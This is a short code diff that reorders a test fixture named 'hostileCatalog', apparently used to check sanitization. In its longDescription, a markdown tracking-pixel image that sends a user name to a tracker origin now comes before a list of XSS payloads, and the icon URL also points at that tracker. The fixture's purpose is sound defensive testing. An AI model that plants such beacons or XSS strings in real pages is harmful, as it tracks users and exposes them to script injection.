@@ -100,7 +100,7 @@ export function hostileCatalog(): Record<string, unknown> {
     tags: ['xss'],
     metadata: {
       displayName: 'XSS everything',
-      longDescription: [...XSS_PAYLOADS, `![Tracked](${TRACKER_ORIGIN}/pixel.gif?user=alice)`].join('\n\n'),
+      longDescription: [`![Tracked](${TRACKER_ORIGIN}/pixel.gif?user=alice)`, ...XSS_PAYLOADS].join('\n\n'),
       providerDisplayName: 'Hostile Inc.',
       imageUrl: `${TRACKER_ORIGIN}/icon.png?user=alice`,
     },
